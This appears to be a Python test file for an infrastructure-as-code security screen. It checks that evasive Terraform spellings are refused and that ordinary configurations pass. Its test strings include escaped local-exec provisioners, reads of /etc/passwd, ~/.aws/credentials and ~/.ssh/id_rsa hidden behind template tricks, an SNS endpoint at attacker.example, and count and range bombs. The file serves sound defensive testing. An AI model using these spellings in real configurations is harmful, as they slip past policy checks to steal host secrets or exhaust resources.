"""Constructs the screen refuses, spelled as terraform 1.11 also reads them (issue 17).

Each spelling was checked with `terraform validate`/`plan` against the offline provider: the
escaped label is the null provider, both duplicate JSON keys are read, the removed block's
provisioner is accepted, and so on. tests/hostile/test_spellings.py runs a few for real.
"""

import json

import pytest

from iacforge.hcl.parse import parse_files
from iacforge.verify.screen.policy import ScreenPolicy
from iacforge.verify.screen.rules import screen

POLICY = ScreenPolicy.load()


def findings(files: dict[str, str]) -> list[tuple[str, str | None, int | None]]:
    model = parse_files(files).model
    assert model is not None, "the snippet must parse"
    return [(d.rule_id.rsplit("/", 1)[1], d.file, d.line) for d in screen(model, POLICY)]


DUPLICATE = ('{"resource": {\n  "terraform_data": {"x": {"provisioner": '
             '{"local-exec": {"command": "id"}}}},\n  "terraform_data": {"y": {}}\n}}\n')

SPELLINGS = {
    "escaped provisioner label": (
        'resource "terraform_data" "x" {\n  provisioner "local\\u002dexec" {\n'
        '    command = "id"\n  }\n}\n', ("provisioner", 2)),
    "escaped resource type": ('resource "null\\u005fresource" "x" {}\n', ("provider", 1)),
    "escaped module source": ('module "m" {\n  source = "\\u002e\\u002e/outside"\n}\n',
                              ("module-source", 2)),
    "escaped sns protocol": (
        'resource "aws_sns_topic_subscription" "x" {\n  topic_arn = "arn"\n'
        '  protocol = "htt\\u0070"\n  endpoint = "http://attacker.example"\n}\n',
        ("argument", 3)),
    "provisioner in a removed block": (
        'removed {\n  from = terraform_data.gone\n  lifecycle {\n    destroy = true\n  }\n'
        '  provisioner "local-exec" {\n    when    = destroy\n    command = "id"\n  }\n}\n',
        ("provisioner", 6)),
    "count by multiplication": ('resource "terraform_data" "x" {\n  count = 1000 * 1000\n}\n',
                                ("count", 2)),
    "count by pow": ('resource "terraform_data" "x" {\n  count = pow(10, 4)\n}\n',
                     ("count", 2)),
    "count through a local": (
        'variable "n" {\n  default = 600\n}\nlocals {\n  n = var.n * 2\n}\n'
        'resource "terraform_data" "x" {\n  count = local.n\n}\n', ("count", 8)),
    "count the screen cannot fold": (
        'variable "n" {\n  type = number\n}\nresource "terraform_data" "x" {\n'
        '  count = var.n * var.n\n}\n', ("count", 5)),
    "for_each over a long range": (
        'resource "terraform_data" "x" {\n'
        '  for_each = toset([for i in range(1024) : tostring(i)])\n}\n', ("count", 2)),
    "for_each over nested ranges": (
        'locals {\n  pairs = flatten([for a in range(50) :\n'
        '    [for b in range(50) : "${a}-${b}"]])\n}\n'
        'resource "terraform_data" "x" {\n  for_each = toset(local.pairs)\n}\n', ("count", 6)),
    "range of a product": ('locals {\n  xs = range(1000 * 1000)\n}\n', ("range", 2)),
    "templatestring of an escaped costly call": (
        'locals {\n  t = "$${format(\\"%01000000000d\\", 1)}"\n}\n'
        'output "x" {\n  value = templatestring(local.t, {})\n}\n', ("format", 5)),
    "templatestring of a heredoc": (
        'locals {\n  t = <<EOT\nkey: $${file("~/.aws/credentials")}\nEOT\n}\n'
        'output "x" {\n  value = templatestring(local.t, {})\n}\n', ("host-path", 7)),
    "templatestring of what the screen cannot read": (
        'resource "terraform_data" "t" {\n  input = "x"\n}\n'
        'output "x" {\n  value = templatestring(terraform_data.t.output, {})\n}\n',
        ("host-path", 5)),
    "templatefile of a .tf file whose comment renders a call": (
        '# ${file("/etc/passwd")}\n'
        'output "x" {\n  value = templatefile("main.tf", {})\n}\n',
        ("host-path", 3)),
    "path behind an if directive": (
        'output "x" {\n  value = file("%{ if true }/etc/passwd%{ endif }")\n}\n',
        ("host-path", 2)),
    "path behind a for directive": (
        'locals {\n  dirs = ["/etc"]\n}\n'
        'output "x" {\n  value = file("%{ for p in local.dirs }${p}%{ endfor }/passwd")\n}\n',
        ("host-path", 5)),
    "path behind an empty interpolation": (
        'variable "root" {\n  default = ""\n}\n'
        'output "x" {\n  value = file("${var.root}/etc/passwd")\n}\n', ("host-path", 5)),
    "path through each.value": (
        'resource "aws_s3_object" "x" {\n  for_each = toset(["/etc/passwd"])\n'
        '  bucket = "b"\n  key = each.key\n  content = file(each.value)\n}\n',
        ("host-path", 5)),
    "path argument through each.value of a map": (
        'resource "aws_s3_object" "x" {\n  for_each = { a = "~/.ssh/id_rsa" }\n'
        '  bucket = "b"\n  key = each.key\n  source = each.value\n}\n', ("host-path", 5)),
    "path from a resource attribute": (
        'resource "terraform_data" "p" {\n  input = "/etc/passwd"\n}\n'
        'output "x" {\n  value = file(terraform_data.p.output)\n}\n', ("host-path", 5)),
}


@pytest.mark.parametrize("name", sorted(SPELLINGS))
def test_a_spelling_terraform_reads_is_refused(name):
    text, (rule, line) = SPELLINGS[name]
    assert (rule, "main.tf", line) in findings({"main.tf": text})


def test_duplicate_keys_in_tf_json_are_refused_at_the_second():
    assert ("duplicate-key", "main.tf.json", 3) in findings({"main.tf.json": DUPLICATE})


def test_json_without_duplicates_is_not_refused_for_them():
    text = json.dumps({"resource": {"terraform_data": {"x": {}, "y": {}}}})
    assert findings({"main.tf.json": text}) == []


SAFE = """
variable "prefix" {
  default = "files"
}

locals {
  t     = "Hello, $${name}"
  sizes = { small = 1, large = 3 }
}

resource "aws_s3_object" "pass_objects" {
  for_each = fileset("${path.module}/files", "*.txt")
  bucket   = "b"
  key      = each.value
  source   = "${path.module}/${var.prefix}/${each.value}"
}

resource "terraform_data" "pass_count" {
  count = var.enabled ? 2 * 3 : 0
  input = templatestring(local.t, { name = "x" })
}

resource "terraform_data" "pass_each" {
  for_each = local.sizes
  input    = range(each.value)
}

variable "enabled" {
  default = true
}
"""


def test_ordinary_uses_of_these_constructs_pass():
    assert findings({"main.tf": SAFE}) == []
